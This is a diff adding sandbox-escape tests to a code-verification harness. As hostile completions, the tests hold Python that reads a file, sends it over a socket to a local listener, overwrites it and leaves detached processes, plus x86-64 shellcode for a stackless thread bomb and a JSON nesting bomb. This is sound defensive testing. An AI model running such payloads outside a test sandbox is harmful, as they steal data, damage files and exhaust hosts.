@@ -10,6 +10,7 @@ that a test that passes shows the sandbox at work, not an attack that never work
 from __future__ import annotations
 
 import json
+import re
 import os
 import select
 import shlex
@@ -351,3 +352,179 @@ def test_the_unsafe_switch_is_explicit_and_warns(monkeypatch):
     monkeypatch.setattr(sandbox, "_warned", False)
     with pytest.warns(RuntimeWarning, match="WITHOUT a sandbox"):
         assert task.verify_batch([_item()] * 2, ["x*2+1", "x"]) == [True, False]
+
+
+# ---- issue 35: data cannot weaken the sandbox; threads bounded; hostile results ------------------
+
+def _steal_and_linger(canary: Path, port: int, token: str) -> str:
+    """A completion that reads `canary`, sends it to 127.0.0.1:`port`, overwrites it, and leaves two
+    `setsid` grandchildren sleeping with `token` in their command line."""
+    program = f"import time; time.sleep(3)  # {token}"
+    return _def(f"""
+import os, socket
+data = open({str(canary)!r}).read()
+socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(data.encode())
+open({str(canary)!r}, 'w').write('pwned')
+for _ in range(2):
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            os.execv({PY!r}, [{PY!r}, '-c', {program!r}])
+        os._exit(0)
+return x*2+1
+""")
+
+
+def _code_row(task: str) -> dict:
+    from hpd.tasks import task_row
+
+    return {**task_row(_item()), "task": task}
+
+
+def test_a_data_row_cannot_switch_the_sandbox_off(tmp_path):
+    """A row's task spec `code:unsafe_no_sandbox=1` is refused, naming the row; nothing happens."""
+    from hpd.verifiers import TaskVerifier, get_verifier
+
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(8)
+        port = server.getsockname()[1]
+        # The control: the person's own switch runs the completion unsandboxed, and it does all three.
+        control, control_token = tmp_path / "control", uuid.uuid4().hex
+        control.write_text("control secret")
+        attack = _steal_and_linger(control, port, control_token)
+        assert TaskVerifier(CodeTask(workers=1, unsafe_no_sandbox=True)).verify_batch([_code_row("code")], [attack]) == [True]
+        assert select.select([server], [], [], 2.0)[0], "the attack cannot connect even without the sandbox"
+        conn = server.accept()[0]
+        assert conn.recv(100) == b"control secret"
+        conn.close()
+        while select.select([server], [], [], 0.5)[0]:  # the control's later connections (one per input)
+            server.accept()[0].close()
+        # (the resource limit on file size leaves it truncated rather than rewritten: changed all the same)
+        assert control.read_text() != "control secret" and _processes_with(control_token)
+
+        canary, token, secret = tmp_path / "canary", uuid.uuid4().hex, uuid.uuid4().hex
+        canary.write_text(secret)
+        attack = _steal_and_linger(canary, port, token)
+        with pytest.raises(HPDError, match=r"row 0 \(0-based\).*'code:unsafe_no_sandbox=1'.*may set only") as e:
+            get_verifier("task").verify_batch([_code_row("code:unsafe_no_sandbox=1")], [attack])
+        assert "\n" not in str(e.value) and "HPD_CODE_UNSAFE_NO_SANDBOX" in str(e.value)
+        assert canary.read_text() == secret, "the completion wrote the canary"
+        assert not select.select([server], [], [], 0.5)[0], "the completion reached the listener"
+        time.sleep(0.2)
+        assert _processes_with(token) == [], "the completion left processes behind"
+    for pid in _processes_with(control_token):  # the control's sleepers (ours): end them now
+        try:
+            os.kill(pid, 9)
+        except ProcessLookupError:
+            pass
+
+
+@pytest.mark.parametrize("spec", ["code:timeout_s=1000", "code:memory_mb=100000", "code:workers=512",
+                                  "code:kinds=int,unsafe_no_sandbox=0"])
+def test_a_data_row_sets_only_problem_parameters(spec):
+    from hpd.verifiers import get_verifier
+
+    with pytest.raises(HPDError, match=rf"row 1 \(0-based\).*{re.escape(spec)}.*may set only .*kinds, max_ops"):
+        get_verifier("task").check_rows([_code_row("code:kinds=int"), _code_row(spec)])
+
+
+def test_problem_parameters_in_a_data_row_still_work():
+    from hpd.tasks import task_row
+    from hpd.verifiers import get_verifier
+
+    math = get_task("math:steps=3").generate("test", 1, seed=0)[0]
+    rows = [_code_row("code"), _code_row("code:kinds=int,max_ops=2"), {**task_row(math), "task": "math:steps=3"}]
+    assert get_verifier("task").verify_batch(rows, ["x*2+1", "x*2", math.reference]) == [True, False, True]
+
+
+# x86-64 machine code. CLONE: clone(CLONE_VM|CLONE_SIGHAND|CLONE_THREAD, stack 0) (rax=56, rdi=0x10900,
+# rsi=rdx=r10=r8=0; syscall): a thread with no stack of its own, which runs on in the same code.
+_CLONE = "b838000000" "bf00090100" "31f6" "31d2" "4531d2" "4531c0" "0f05"
+# One stackless thread that exits at once (test rax; jnz ret; exit(60)); returns the clone's result.
+_ONE_THREAD = _CLONE + "4885c0" "7507" "b83c000000" "0f05" "c3"
+# The bomb: every thread clones again, forever (jmp back to the start).
+_THREAD_BOMB = _CLONE + "ebe8"
+
+
+def _machine_code(hex_code: str) -> str:
+    """A completion that runs `hex_code` from an RWX mapping and returns what it returns (rax)."""
+    return _def(f"""
+import ctypes, mmap
+m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+m.write(bytes.fromhex({hex_code!r}))
+ctypes.keep = m  # never unmapped: a new thread may not have left the page yet
+return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
+""")
+
+
+def _tasks_below(pid: int) -> int:
+    """Threads of every process below `pid` (not counting `pid` itself), from /proc."""
+    count = 0
+    for p in set(_descendants({pid})) - {pid}:
+        try:
+            count += len(os.listdir(f"/proc/{p}/task"))
+        except OSError:
+            pass
+    return count
+
+
+x86_64 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack is x86-64 machine code")
+
+
+@x86_64
+def test_a_stackless_raw_thread_clone_is_refused():
+    """The primitive of the thread bomb: without the sandbox a stackless thread starts (a thread
+    id comes back); inside, clone fails with EPERM (-1)."""
+    job = [{"src": _machine_code(_ONE_THREAD), "var": "x", "inputs": [0]}]
+    (control,) = CodeTask(workers=1, unsafe_no_sandbox=True).run_sandboxed(job)
+    assert control[0][0] == "ok" and control[0][1] > 0, control
+    assert CodeTask(workers=1).run_sandboxed(job) == [[["ok", -1]]]
+
+
+@x86_64
+def test_a_stackless_thread_bomb_takes_no_host_tasks():
+    """The bomb loops clone(CLONE_VM|CLONE_SIGHAND|CLONE_THREAD) with no stack: uid 0 is not bound
+    by RLIMIT_NPROC, and no stack means no address space. The host's task count below this process
+    stays at the sandbox's few processes, nothing is left after, and the next completion scores."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    task = CodeTask(timeout_s=1.0, workers=1)
+    item = _item()
+    task.verify(item, item.reference)  # the isolation check, done before counting
+    with ThreadPoolExecutor(1) as pool:
+        running = pool.submit(task.verify_batch, [item, item], [_machine_code(_THREAD_BOMB), item.reference])
+        most = 0
+        while not running.done():
+            most = max(most, _tasks_below(os.getpid()))
+            time.sleep(0.005)
+        assert running.result() == [False, True]
+    # bwrap, its PID 1, the fork server and the completion's child: one task each
+    assert 3 <= most <= 8, f"{most} tasks below the verifier during the bomb (3 or more: it was seen)"
+    assert _tasks_below(os.getpid()) == 0, "the sandbox left tasks behind"
+
+
+@pytest.mark.parametrize("depth", [30_000, 500])
+def test_a_nesting_bomb_on_the_result_pipe_is_a_verdict(monkeypatch, depth):
+    """A completion writes `[[[...]]]` straight to its result pipe: deeper than the fork server's
+    JSON parser goes (30,000), or within it (500; the verifier's process, which may parse from
+    deep in its own stack, must never see it). The bomb's answer is None (failed), the next
+    completions score, and one sandbox served the whole batch."""
+    task = CodeTask(workers=1)
+    task.preflight()  # the isolation check (its own sandbox) before counting
+    served: list[int] = []
+    real = sandbox._serve
+    monkeypatch.setattr(sandbox, "_serve", lambda found, jobs, *a: served.append(len(jobs)) or real(found, jobs, *a))
+    bomb = _def(f"""
+import os
+for fd in range(3, 64):
+    try:
+        os.write(fd, b'[' * {depth} + b']' * {depth})
+    except OSError:
+        pass
+os._exit(0)
+""")
+    item = _item()
+    assert task.verify_batch([item] * 3, [bomb, item.reference, item.reference]) == [False, True, True]
+    assert served == [3], f"sandboxes started per job: {served} (the fork server died on the bomb)"
+    assert task.run_sandboxed([{"src": bomb, "var": "x", "inputs": [0]}]) == [None]
